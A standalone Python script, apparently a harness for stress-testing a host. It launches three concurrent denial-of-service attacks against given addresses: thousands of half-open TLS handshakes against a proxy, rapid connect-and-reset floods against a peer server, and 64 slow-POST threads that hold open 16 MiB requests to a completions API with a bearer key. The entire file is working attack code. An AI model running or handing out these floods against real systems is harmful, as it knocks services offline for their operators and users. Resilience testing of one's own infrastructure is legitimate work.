"""A neighbour's attacks on a host, all at once. Standard library only, run there by `python3`.

Arguments: addresses with ports of a proxy, a peer server and the proxy of a service that sleeps,
seconds, and a key. Prints counters at the end, as JSON: an attack that reached nothing shows.
"""

import contextlib
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import threading
import time

HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
HALF = 10_000
RESET = struct.pack("ii", 1, 0)
COUNTS = {"half": 0, "ended": 0, "resets": 0, "slow": 0}


def half(at: tuple[str, int], until: float) -> None:
    """Ten thousand half handshakes; one that ends is begun anew."""
    waiting = selectors.DefaultSelector()
    held = 0
    while time.monotonic() < until:
        for _ in range(min(200, HALF - held)):
            fresh = socket.socket()
            fresh.setblocking(False)
            fresh.connect_ex(at)
            waiting.register(fresh, selectors.EVENT_WRITE | selectors.EVENT_READ)
            held += 1
            COUNTS["half"] += 1
        for key, events in waiting.select(0.05):
            item = key.fileobj
            assert isinstance(item, socket.socket)
            try:
                if events & selectors.EVENT_WRITE:
                    item.send(HELLO)
                    waiting.modify(item, selectors.EVENT_READ)
                elif not item.recv(100):
                    raise ConnectionError
            except OSError:
                waiting.unregister(item)
                item.close()
                held -= 1
                COUNTS["ended"] += 1


def reset(at: tuple[str, int], until: float) -> None:
    """Connect and reset, as fast as it goes."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(at, 1) as item:
            item.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            COUNTS["resets"] += 1


def slow(at: tuple[str, int], until: float, key: str) -> None:
    """A request of 16 MiB for a service that sleeps, whose last byte never comes."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    head = f"POST /v1/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {key}\r\n"
    head += f"Content-Length: {16 << 20}\r\n\r\n"
    while time.monotonic() < until:
        with (
            contextlib.suppress(OSError),
            socket.create_connection(at, 10) as plain,
            context.wrap_socket(plain) as item,
        ):
            item.sendall(head.encode() + b" " * ((16 << 20) - 1))
            COUNTS["slow"] += 1
            item.settimeout(max(0.1, until - time.monotonic()))
            item.recv(100)


def main() -> None:
    """All of them."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (16_000, 16_000))
    proxy, peers, asleep = [
        (address, int(port)) for address, _, port in (each.partition(":") for each in sys.argv[1:4])
    ]
    until, key = time.monotonic() + float(sys.argv[4]), sys.argv[5]
    work = [threading.Thread(target=half, args=(proxy, until))]
    work += [threading.Thread(target=reset, args=(peers, until)) for _ in range(4)]
    work += [threading.Thread(target=slow, args=(asleep, until, key)) for _ in range(64)]
    for thread in work:
        thread.start()
    for thread in work:
        thread.join()
    print(json.dumps(COUNTS))


main()
